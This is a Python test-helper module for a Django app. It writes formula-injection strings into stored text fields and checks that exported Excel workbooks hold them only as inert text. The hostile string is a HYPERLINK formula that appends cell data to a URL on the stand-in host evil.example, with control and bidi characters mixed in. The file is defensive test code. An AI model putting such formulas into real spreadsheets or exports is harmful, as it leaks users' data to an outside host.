"""Helpers of the generated export tests: hostile text stored where an export or a template reads it,
and the checks that a workbook holds it only as inert text."""

from __future__ import annotations

import io
import itertools
import re

from django.core.exceptions import FieldDoesNotExist
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from openpyxl import load_workbook

PREFIXES = ("=", "+", "-", "@", "\t=", "\r=", "＝", " =")
CONTROLS = "\x1b\x07\u202e\x01\x02"
SERIAL = itertools.count()
# What a spreadsheet takes for a formula (OWASP, CSV injection), what XML 1.0 forbids and the
# controls that make text read as it is not: none of it may reach a cell as it is.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


def text_field_at(model, path: str):
    """The text field at the end of a field path through single relations, or None."""
    parts = path.split("__")
    try:
        for part in parts[:-1]:
            field = model._meta.get_field(part)
            if not (field.many_to_one or field.one_to_one):
                return None
            model = field.related_model
        field = model._meta.get_field(parts[-1])
    except FieldDoesNotExist:
        return None
    return field if is_text_field(field) else None


def hostile_text(max_length: int | None, controls: bool = True) -> str:
    """A formula after one of the prefixes that make a spreadsheet run it, with control characters,
    different each time (unique fields), cut to the field's length."""
    n = next(SERIAL)
    text = f'{PREFIXES[n % len(PREFIXES)]}{CONTROLS if controls else ""}HYPERLINK("http://evil.example/?d="&B2,"查看详情{n}")'
    return text[:max_length] if max_length else text


def is_text_field(field) -> bool:
    return isinstance(field, models.CharField | models.TextField) and not field.choices


def store_hostile(obj: models.Model, path: str, controls: bool = True) -> bool:
    """Overwrite the text field at ``path`` from ``obj`` with hostile text, as stored data may already
    hold it (bypassing validation); False if the path does not end at a text field."""
    field = text_field_at(type(obj), path)
    if field is None:
        return False
    owner = obj
    for part in path.split("__")[:-1]:
        owner = getattr(owner, part)
        if owner is None:
            return False
    type(owner)._base_manager.filter(pk=owner.pk).update(
        **{field.name: hostile_text(field.max_length, controls)}
    )
    return True


def store_hostile_everywhere(obj: models.Model, paths) -> int:
    return sum(store_hostile(obj, path) for path in paths)


def workbook_cells(content: bytes):
    """Every cell of every sheet, as openpyxl reads them (with their types)."""
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_inert(content: bytes) -> int:
    """No formula cell, no text a spreadsheet would take for one, nothing XML forbids; returns how
    many cells were neutralised."""
    neutralised = 0
    for cell in workbook_cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            text = cell.value
            assert text[:1] not in FORMULA_STARTS and text.lstrip()[:1] not in FORMULA_STARTS, repr(text)
            assert not UNSAFE.search(text), repr(text)
            neutralised += text.startswith("'")
    return neutralised


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")
